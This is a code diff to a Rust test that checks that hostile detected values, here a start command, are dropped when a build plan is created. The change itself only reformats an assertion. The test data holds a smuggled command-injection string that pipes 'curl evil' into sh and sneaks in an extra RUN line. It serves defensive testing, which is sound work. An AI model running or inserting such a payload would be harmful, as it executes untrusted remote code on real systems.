@@ -158,7 +158,11 @@ fn hostile_detection_values_are_dropped_by_the_plan() {
     d.port = Some(0);
     d.start_command = vec!["run $(curl evil|sh)\nRUN curl evil|sh".into()];
     let plan = Plan::from_detection(&d);
-    assert_eq!(plan.start_command, ["node", "index.js"], "stack default replaces it");
+    assert_eq!(
+        plan.start_command,
+        ["node", "index.js"],
+        "stack default replaces it"
+    );
     plan.validate().unwrap();
     assert_eq!(plan.manifests, ["package.json"]);
     assert!(plan.hints.is_empty(), "{:?}", plan.hints);
